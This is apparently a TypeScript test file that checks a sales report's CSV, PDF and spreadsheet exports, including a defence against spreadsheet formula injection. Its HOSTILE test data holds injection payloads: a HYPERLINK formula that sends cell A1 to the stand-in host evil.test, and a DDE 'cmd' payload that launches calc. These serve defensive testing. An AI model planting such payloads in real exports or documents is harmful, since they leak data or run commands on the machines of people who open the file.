import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ReportDocument } from '../../shared/contract/report-model.ts';
import { csvField, reportCsv } from '../../shared/export/report-csv.ts';
import { reportPdf } from '../../shared/export/report-pdf.ts';
import { cellWords, filledSections, headLines } from '../../shared/export/report-rows.ts';
import { reportWorkbook } from '../../shared/export/report-workbook.ts';
import { workbookFile } from '../../shared/export/workbook-file.ts';
import { formatMoney } from '../../shared/i18n/format.ts';
import { addProduct, itemIdsOf, openClient, sell } from '../support/goods.ts';
import { pdfBytesOf, pdfPages } from '../support/pdf-text.ts';
import { openTestService, type TestService } from '../support/test-service.ts';

const ZONE = 'America/Toronto';
const HOSTILE = [
  '=HYPERLINK("http://evil.test?"&A1;"cliquez")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  'Une "virgule", un point; et une\u00a0espace',
];
let desk: TestService;
let report: ReportDocument;

beforeAll(async () => {
  desk = await openTestService();
  for (const [index, nameFr] of HOSTILE.entries()) {
    const type = index % 2 === 0 ? 'merchandise' : 'rental';
    const productId = await addProduct(desk, 1999 + index * 701, { nameFr, type });
    const { clientId, personId } = await openClient(desk, { name: HOSTILE[index] ?? '' });
    const items = [{ productId, quantity: index + 1, personId }];
    const sold = await sell(desk, { clientId, items });
    const [itemId = 0] = await itemIdsOf(desk, sold.invoiceId ?? 0);
    if (index === 2) await desk.call('item.cancel', { itemId, creditBasisPoints: 3333, reason: '=1' });
  }
  report = await desk.call('report.salesSummary', { detail: 'participant' });
});
afterAll(() => desk.close());

test('the report has a summary and a table for each type, with rows that would harm a spreadsheet', () => {
  expect(report.sections.map(({ id }) => id)).toEqual(['summary', 'rental', 'merchandise']);
  expect(JSON.stringify(report)).toContain('=HYPERLINK');
});

describe('CSV', () => {
  test('every table is in it, and no text of it begins a formula', () => {
    const rows: string[][] = parse(reportCsv(report, 'fr', ZONE), { bom: true, relax_column_count: true });
    for (const field of rows.flat())
      if (!/^-?\d+\.\d+$/.test(field)) expect(field).not.toMatch(/^\s*[=+\-@]/);
    for (const { title, columns, rows: lines } of filledSections(report)) {
      const at = rows.findIndex((row) => row.length === 1 && row[0] === title.fr);
      expect(rows[at + 1]).toEqual(columns.map((column) => column.title.fr));
      for (const [index, { cells }] of lines.entries())
        for (const [place, { id, kind }] of columns.entries()) {
          const said = cellWords(cells[id], kind, { language: 'fr', timeZone: ZONE });
          expect([said, `'${said}`]).toContain(rows[at + 2 + index]?.[place]);
        }
    }
  });

  test('any text comes back as it was or behind one apostrophe, and never as a formula', () => {
    const anyTexts = fc.array(fc.string({ unit: 'binary', maxLength: 30 }), { minLength: 1, maxLength: 40 });
    fc.assert(
      fc.property(anyTexts, (texts) => {
        const file = texts.map((text) => `${csvField(text)},end\r\n`).join('');
        const rows: string[][] = parse(file, { relax_quotes: false });
        expect(rows).toHaveLength(texts.length);
        const wrong = rows.filter(([field = '', more], index) => {
          const isText = field === texts[index] || field === `'${texts[index]}`;
          return more !== 'end' || !isText || /^[\s\p{Cc}]*[=+\-@]/u.test(field);
        });
        expect(wrong).toEqual([]);
      }),
      { numRuns: 60, seed: 11 },
    );
  });
});

test('the PDF says every heading, row and total', async () => {
  const pages = await pdfPages(await pdfBytesOf(reportPdf(report, 'fr', ZONE)));
  const dense = (text: string) => text.replace(/\s/g, '');
  const read = dense(pages.join(''));
  for (const line of headLines(report, 'fr')) expect(read).toContain(dense(line));
  for (const { title, rows, totals } of filledSections(report)) {
    expect(read).toContain(dense(title.fr));
    for (const { cells } of rows) expect(read).toContain(dense(formatMoney(Number(cells.totalMinor), 'fr')));
    expect(read).toContain(dense(formatMoney(Number(totals?.totalMinor), 'fr')));
  }
});

const hasOffice = (() => {
  try {
    execFileSync('which', ['soffice'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();
/** Fields by comma, quoted by ", UTF-8, raw values instead of their looks, every sheet into a file of its own. */
const CSV_FILTER = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false,false,false,-1';

test('LibreOffice opens the workbook, and each of its sheets is the report’s table, totals included', {
  timeout: 120_000,
}, async ({ skip }) => {
  if (!hasOffice) {
    expect(process.env.CI, 'soffice is not installed').not.toBe('1');
    skip('soffice is not installed');
  }
  const folder = mkdtempSync(join(tmpdir(), 'guichet-office-'));
  try {
    const sheets = reportWorkbook(report, 'fr', ZONE);
    const blob = await workbookFile(sheets);
    writeFileSync(join(folder, 'r.xlsx'), new Uint8Array(await blob.arrayBuffer()));
    const office = [
      `-env:UserInstallation=file://${folder}/profile`,
      '--headless',
      '--convert-to',
      CSV_FILTER,
    ];
    execFileSync('soffice', [...office, '--outdir', folder, join(folder, 'r.xlsx')], { stdio: 'ignore' });
    expect(readdirSync(folder).filter((name) => name.endsWith('.csv'))).toHaveLength(sheets.length);
    for (const [index, { title, columns, rows, totals }] of filledSections(report).entries()) {
      const text = readFileSync(join(folder, `r-${sheets[index]?.sheet}.csv`), 'utf8');
      const read: string[][] = parse(text, { relax_column_count: true });
      const at = read.findIndex((row) => row[0] === columns[0]?.title.fr);
      expect(at, title.fr).toBeGreaterThan(0);
      const expected = [...rows.map(({ cells }) => cells), totals ?? {}].map((cells) =>
        columns.map(({ id, kind }) => {
          const said = cellWords(cells[id], kind, { language: 'fr', timeZone: ZONE });
          return typeof cells[id] === 'number' ? Number(said) : said;
        }),
      );
      const found = read
        .slice(at + 1)
        .map((row) =>
          columns.map(({ id }, place) =>
            typeof rows[0]?.cells[id] === 'number' ? Number(row[place]) : row[place],
          ),
        );
      expect(found, title.fr).toEqual(expected);
    }
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});

test('totals are formulas over their rows, headings stay in sight, and texts are never formulas', () => {
  for (const { data, stickyRowsCount } of reportWorkbook(report, 'en', ZONE)) {
    const last = data.at(-1) ?? [];
    expect(last.filter((cell) => cell?.type === 'Formula').length).toBeGreaterThan(5);
    expect(data[stickyRowsCount - 1]?.every((cell) => cell?.type === String)).toBe(true);
    for (const cell of data.slice(0, -1).flat()) expect(cell?.type).not.toBe('Formula');
  }
});
